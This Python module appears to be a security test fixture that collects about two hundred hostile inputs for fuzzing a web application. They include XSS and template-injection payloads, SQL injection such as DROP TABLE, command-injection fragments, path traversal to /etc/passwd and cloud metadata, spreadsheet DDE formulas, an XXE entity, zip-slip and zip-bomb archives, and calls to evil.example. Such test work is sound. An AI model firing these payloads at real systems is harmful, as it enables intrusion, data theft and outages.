"""Two hundred things a page or program would never send in good faith.

`MARK` stands in every text that would do something if it were run or shown as it is, so that one
look at an answer tells whether it came back unescaped.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable

MARK = "x7331x"

SCRIPTS = [
    f"<script>{MARK}()</script>",
    f"<ScRiPt src=//evil.example/{MARK}></sCrIpT>",
    f"<img src=x onerror={MARK}()>",
    f'"><svg onload={MARK}()>',
    f"'><iframe srcdoc='<script>{MARK}()</script>'>",
    f"</textarea><script>{MARK}()</script>",
    f"</title><script>{MARK}()</script>",
    f"</style><script>{MARK}()</script>",
    f"</script><script>{MARK}()</script>",
    f"--><script>{MARK}()</script><!--",
    f"]]><script>{MARK}()</script>",
    f'" autofocus onfocus={MARK}() x="',
    f"' onmouseover='{MARK}()",
    f"` onclick=`{MARK}()",
    f"<a href='javascript:{MARK}()'>belt</a>",
    f"<form action='//evil.example/{MARK}'><button>",
    f"<base href='//evil.example/{MARK}/'>",
    f"<link rel=stylesheet href='//evil.example/{MARK}'>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<object data='data:text/html,<script>{MARK}()</script>'>",
    f"<math><mtext><style><img src onerror={MARK}()></style>",
    f"<div hx-get='//evil.example/{MARK}' hx-trigger='load'>",
    f"<div hx-on:load='{MARK}()'>",
    f"<details open ontoggle={MARK}()>",
    f"<input type=image src=x onerror={MARK}()>",
    f"<video><source onerror={MARK}()>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}()>'>",
    f"<svg><animate onbegin={MARK}() attributeName=x dur=1s>",
    f"<template><script>{MARK}()</script></template>",
    f"<x onclick={MARK}() tabindex=1>",
]
TEMPLATES = [
    "{{ 73317331*7 }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ config.__class__.__init__.__globals__ }}", "${73317331*7}", "#{73317331*7}",
    "<%= 73317331*7 %>",
    "%(x)s%(y)s", "{0.__class__}", "{}{}{}", "%n%n%n%s%s", "$(id)", "`id`", "; id", "| id", "&& id",
    "\n id", "$IFS", "#read(\"/etc/passwd\")", "#import \"@preview/x:1.0.0\"",
    "\\input{/etc/passwd}",
]  # fmt: skip
SQL = [
    "' OR '1'='1", "'; DROP TABLE facts; --", '" OR ""="', "1; DELETE FROM facts", "1 OR 1=1",
    "' UNION SELECT body FROM facts --", "'/**/OR/**/1=1--", "admin'--", "admin' #",
    "') OR ('1'='1",
    "'; ATTACH DATABASE '/tmp/x.db' AS x; --", "'; COPY facts TO '/tmp/x'; --", "\\'; SELECT 1; --",
    "%' AND 1=0 UNION ALL SELECT null --", "' AND randomblob(1000000000) --", "'||pg_sleep(9)--",
    "_%", "%%%%", "\\", "''", '"', "'", "0x27206f722031", "1e309", "NULL",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd",
    "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd",
    "..%252f..%252fetc", "..%c0%af..%c0%afetc", "/proc/self/environ", "C:\\Windows\\win.ini",
    "\\\\evil.example\\share", "CON", "NUL.csv", "a/../../b.csv", ".", "..", "~root", "~/.ssh/id",
    "plan.json/../../x", "register.sqlite", "register.sqlite-wal", "//evil.example/x",
    "/\\evil.example", "http://169.254.169.254/", "javascript:alert(1)", "data:text/html,x",
    "https://evil.example@localhost/", "\t//evil.example", "///evil.example",
]  # fmt: skip
CONTROL = [
    "\x00", "belt\x00.csv", "\x00\x00\x00", "a\r\nX-Injected: yes", "a\nX-Injected: yes",
    "a\r\n\r\n<html>", "%0d%0aX-Injected:%20yes", "\r", "\n", "\t", "\x1b[31mred\x1b[0m",
    "\x07bell", "\x08\x08\x08", "\x7f", "\x85next line", "\u2028line", "\u2029paragraph", "\ufeff",
    "\ufffe", "\uffff", "\x1a", "\x04", "\x0c", "\x0b", "a" * 10 + "\x00" * 10,
]  # fmt: skip
UNICODE = [
    "\u202egpj.exe", "\u2066belt\u2069", "\u200bK1\u200b", "K\u0301" * 50, "e" + "\u0301" * 500,
    "ａｄｍｉｎ", "аdmin", "\U0001f469\u200d\U0001f680" * 40, "ﷺ" * 50, "ß" * 60, "İ" * 60, "ǆ",
    "\u0000\u0301", "١٢٣", "１２３", "²", "½", "⅓ in", "−5 mm", "5\u00a0mm", "1\u202f000 mm",
    "\U000e0001\U000e0041", "🇩🇪", "﷽" * 20, "Z̸̡̢͚a̶l̷g̸o̵" * 10,
]  # fmt: skip
NUMBERS = [
    "9" * 400, "-" + "9" * 400, "1e400", "-1e400", "1e-400", "NaN", "nan", "Infinity", "-inf",
    "9223372036854775807", "9223372036854775808", "-9223372036854775809", "18446744073709551616",
    "0.1e", "1__0", "1_000", "0x10", "0b1", "1,5", "1.5.5", "--1", "+-1", "1e5e5", "-0", "00",
    "1/0 in", "1/0", "0/0 in", "1e308 mm", "1e999 km",
]  # fmt: skip
FORMULAS = [
    f"=HYPERLINK(\"http://evil.example/{MARK}\")", "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1",
    "@SUM(A1)", "\t=1+1", "\r=1+1", "=IMPORTXML(\"http://evil.example\")", "'=1+1",
    "-2+3+cmd|'x'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "+cmd|' /C calc'!A0", "%0A=1+1", "＝1+1",
]  # fmt: skip
LONG = [
    "a" * 121, "a" * 5000, "a" * 70_000, " " * 5000, "\n" * 5000, "é" * 30_000, "<" * 20_000,
    "[" * 5000, "{" * 5000, '"' * 5000,
]  # fmt: skip
HALVES = ["\ud800", "\udfff belt", "a\udc00b", "\ud83d", "\udcff" * 20]
"""Half characters: JSON can carry them, no UTF-8 can."""

TEXTS = [*SCRIPTS, *TEMPLATES, *SQL, *PATHS, *CONTROL, *UNICODE, *NUMBERS, *FORMULAS, *LONG]
"""What goes into every field of every form and route."""
ALL = [*TEXTS, *HALVES]


def _zip(name: str, data: bytes, copies: int = 1) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for number in range(copies):
            archive.writestr(name if copies == 1 else f"{number}{name}", data)
    return made.getvalue()


def _png(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    chunk = b"IHDR" + head
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0d" + chunk + struct.pack(">I", zlib.crc32(chunk))


TABLES: dict[str, bytes | Callable[[], bytes]] = {
    "empty.csv": b"",
    "zeros.csv": b"\x00" * 1000,
    "bad-utf8.csv": b"site,item,count,when\n\xff\xfe\xfa,bolt,1,2026-01-01\n",
    "utf16.csv": "site,item,count,when\n".encode("utf-16"),
    "open-quote.csv": b'site,item,count,when\n"never closed,1,2,3\n' * 50,
    "one-line.csv": b"site,item,count,when," * 2000,
    "many-columns.csv": b",".join(b"c%d" % n for n in range(5000)),
    "no-rows.csv": b"site,item,count,when\n",
    "twice.csv": b"site,site,item,count,when\n",
    "script.csv": f"site,item,count,when\n<script>{MARK}()</script>,b,1,2026-01-01\n".encode(),
    "formula.csv": b"site,item,count,when\n=cmd|' /C calc'!A0,@SUM(A1),+1+1,-1+1\n",
    "moments.csv": b"site,item,count,when\nx,b,1,0000-00-00\nx,b,1,9999-12-31T23:59:60Z\n",
    "numbers.csv": b"site,item,count,when\nx,b,1e400,2026-01-01\nx,b,nan,2026-01-01\n",
    "long-cell.csv": b"site,item,count,when\n" + b"a" * 100_000 + b",b,1,2026-01-01\n",
    "not-a-zip.xlsx": b"PK\x03\x04" + b"\x00" * 200,
    "html.xlsx": f"<html><script>{MARK}()</script></html>".encode(),
    "bomb.xlsx": lambda: _zip("xl/worksheets/sheet1.xml", b"\x00" * 250_000_000),
    "many-parts.xlsx": lambda: _zip("part.xml", b"", 2100),
    "empty-book.xlsx": _zip("xl/workbook.xml", b"<workbook/>"),
    "entities.xlsx": _zip(
        "xl/workbook.xml",
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">'
        b'<!ENTITY f SYSTEM "file:///etc/passwd">]><workbook>&b;&f;</workbook>',
    ),
    "outside.xlsx": _zip("../../../../tmp/evil", b"x"),
    "nested.xlsx": _zip("a.zip", _zip("b.zip", b"\x00" * 1_000_000)),
}
"""Tables that are none; what takes long is made where it is wanted."""

IMAGES: dict[str, bytes] = {
    "html as jpeg": f"<html><script>{MARK}()</script>".encode(),
    "svg as png": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{MARK}()'/>".encode(),
    "jpeg head, script after": b"\xff\xd8\xff\xe0" + f"<script>{MARK}()</script>".encode(),
    "gif and script": f"GIF89a/*<svg/onload={MARK}()>*/=1".encode(),
    "png of a billion pixels": _png(65_000, 65_000),
    "png without a head": b"\x89PNG\r\n\x1a\n",
    "riff of something else": b"RIFF\x00\x00\x00\x00WAVE",
    "pdf": b"%PDF-1.7\n1 0 obj",
    "nothing": b"",
    "zip": _zip("a", b"a"),
}
BODIES: list[bytes] = [
    b"", b"{", b"[", b"null", b"0", b'"text"', b"[]", b"{}", b"\xff\xfe", b"\x00",
    b"\xef\xbb\xbf{}",
    b"[" * 100_000, b'{"a":' * 50_000, b'{"facts":' + b"[" * 90_000,
    b"{" + b'"a":1,' * 10_000 + b"}",
    b'{"facts":[NaN]}', b'{"facts":[1e999]}', b'{"facts":[' + b"9" * 5000 + b"]}",
    b'{"facts":["\\ud800"]}', b'{"facts":[{"id":"\\u0000"}]}', b'{"\\u0000":1}', b"'single'",
    b'{"facts":[{}],"facts":[{}]}', b'{"__proto__":{"admin":true},"facts":[{}]}', b"<xml/>",
    json.dumps({"facts": [{}] * 501}).encode(),
]  # fmt: skip
"""Bodies that are no request of ours."""

assert len(ALL) >= 200, len(ALL)
